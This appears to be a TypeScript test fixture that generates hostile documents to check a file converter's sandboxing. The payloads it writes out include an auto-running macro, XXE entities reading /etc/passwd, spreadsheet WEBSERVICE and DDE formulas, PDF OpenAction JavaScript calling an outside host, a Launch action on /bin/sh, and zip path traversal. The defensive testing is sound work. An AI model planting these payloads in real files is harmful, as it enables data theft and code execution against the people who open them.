import { makePdf } from '../make-pdf.ts';
import { byConverter, type HostileKind, OUTSIDE, SECRET, shown } from './kind.ts';
import { docx, openDocument, paragraph, rels } from './packages.ts';

const frame = (inside: string): string =>
  `<draw:frame text:anchor-type="as-char" svg:width="4cm" svg:height="2cm">${inside}</draw:frame>`;
const link = (path: string): string => `xlink:href="${OUTSIDE}/${path}" xlink:type="simple" xlink:actuate="onLoad"`;

/** Also proves that the trap works: LibreOffice with its usual settings and a network does fetch the picture. */
export const linkedPicture = (): Uint8Array =>
  openDocument({
    type: 'text',
    body: `<text:p>text</text:p><text:p>${frame(`<draw:image ${link('picture.png')} xlink:show="embed"/>`)}</text:p>`,
  });

const MACRO = `<?xml version="1.0"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">Sub Main
ThisComponent.Text.String = "the macro ran"
End Sub</script:module>`;
const LIBRARY = `<?xml version="1.0"?><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="M"/></library:library>`;
const LIBRARIES = `<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>`;
const ON_LOAD = `<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>`;

const macro = (): Uint8Array =>
  openDocument({
    type: 'text',
    body: '<text:p>only text</text:p>',
    scripts: ON_LOAD,
    parts: { 'Basic/script-lc.xml': LIBRARIES, 'Basic/Standard/script-lb.xml': LIBRARY, 'Basic/Standard/M.xml': MACRO },
  });

/** Cells that request data from another server, and one that reads a file of the machine. */
const askingSheet = (): Uint8Array => {
  const cell = (formula: string): string =>
    `<table:table-cell table:formula="${formula}" office:value-type="string"><text:p>cell</text:p></table:table-cell>`;
  const formulas = [
    `of:=WEBSERVICE(&quot;${OUTSIDE}/service&quot;)`,
    `of:='${OUTSIDE}/other.ods'#$Sheet1.A1`,
    `of:='file:///etc/passwd'#$Sheet1.A1`,
    `of:=DDE(&quot;soffice&quot;;&quot;/etc/passwd&quot;;&quot;A1&quot;)`,
  ];
  return openDocument({
    type: 'spreadsheet',
    body: `<table:table table:name="s"><table:table-row>${formulas.map(cell).join('')}</table:table-row></table:table>`,
  });
};

const blip = `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="image"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

/** Actions on opening, on closing and on a click: a script, a program, an address, a form that is sent. */
const pdfActions = (): Uint8Array =>
  makePdf(1, {
    catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${OUTSIDE}/js"\\)) /Next [<< /S /URI /URI (${OUTSIDE}/uri) >> << /S /Launch /F (/bin/sh) >> << /S /SubmitForm /F << /FS /URL /F (${OUTSIDE}/form) >> >>] >> /AA << /WC << /S /URI /URI (${OUTSIDE}/close) >> >>`,
  });

/** Files that try to contact a server or to read the machine. */
export const OUTGOING: readonly HostileKind[] = [
  { kind: 'macro on opening', name: 'a.odt', make: macro, outcome: shown('only text') },
  {
    kind: 'Word macro project under the plain suffix',
    name: 'a.docx',
    make: () =>
      docx(paragraph('only text'), {
        'word/_rels/document.xml.rels': rels({ vbaProject: 'vbaProject.bin' }, ''),
        'word/vbaProject.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      }),
    outcome: shown('only text'),
  },
  { kind: 'linked picture', name: 'a.odt', make: linkedPicture, outcome: shown('text') },
  {
    kind: 'linked picture in Word',
    name: 'a.docx',
    make: () =>
      docx(paragraph('text', '', blip), { 'word/_rels/document.xml.rels': rels({ image: `${OUTSIDE}/p.png` }) }),
    outcome: shown('text'),
  },
  {
    kind: 'template and frame elsewhere',
    name: 'a.docx',
    make: () => {
      const away = rels({ attachedTemplate: `${OUTSIDE}/t.dotm`, frame: `${OUTSIDE}/f.docx` });
      return docx(paragraph('text'), { 'word/_rels/settings.xml.rels': away, 'word/_rels/document.xml.rels': away });
    },
    outcome: shown('text'),
  },
  {
    kind: 'object and section elsewhere',
    name: 'a.odt',
    make: () =>
      openDocument({
        type: 'text',
        body: `<text:p>text</text:p><text:p>${frame(`<draw:object ${link('o.ods')}/>`)}</text:p><text:section text:name="s"><text:section-source ${link('s.odt')}/><text:p>old</text:p></text:section>`,
      }),
    outcome: shown(),
  },
  { kind: 'cells that ask other servers', name: 'a.ods', make: askingSheet, outcome: shown() },
  {
    kind: 'film and sound elsewhere',
    name: 'a.odp',
    make: () =>
      openDocument({
        type: 'presentation',
        body: `<draw:page draw:name="p"><draw:frame svg:width="4cm" svg:height="2cm"><draw:plugin ${link('film.mp4')}/></draw:frame></draw:page>`,
      }),
    outcome: shown(),
  },
  {
    kind: 'external entity: a file',
    name: 'a.docx',
    make: () => docx(paragraph('a &x; b', '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
    outcome: byConverter('damaged', 'large'),
  },
  {
    kind: 'external entity: an address',
    name: 'a.docx',
    make: () => docx(paragraph('a &x; b', `<!DOCTYPE d [<!ENTITY x SYSTEM "${OUTSIDE}/entity">]>`)),
    outcome: byConverter('damaged', 'large'),
  },
  { kind: 'pdf that acts on opening', name: 'a.pdf', make: pdfActions, outcome: shown('Page') },
  {
    kind: 'pdf whose drawing is elsewhere',
    name: 'a.pdf',
    make: () => makePdf(1, { stream: `/F << /FS /URL /F (${OUTSIDE}/stream) >>` }),
    outcome: shown(),
  },
  {
    kind: 'parts outside the package',
    name: 'a.docx',
    make: () => docx(paragraph('text'), { '../../../../tmp/hostile': SECRET, '/etc/hostile': SECRET }),
    outcome: shown('text'),
  },
];
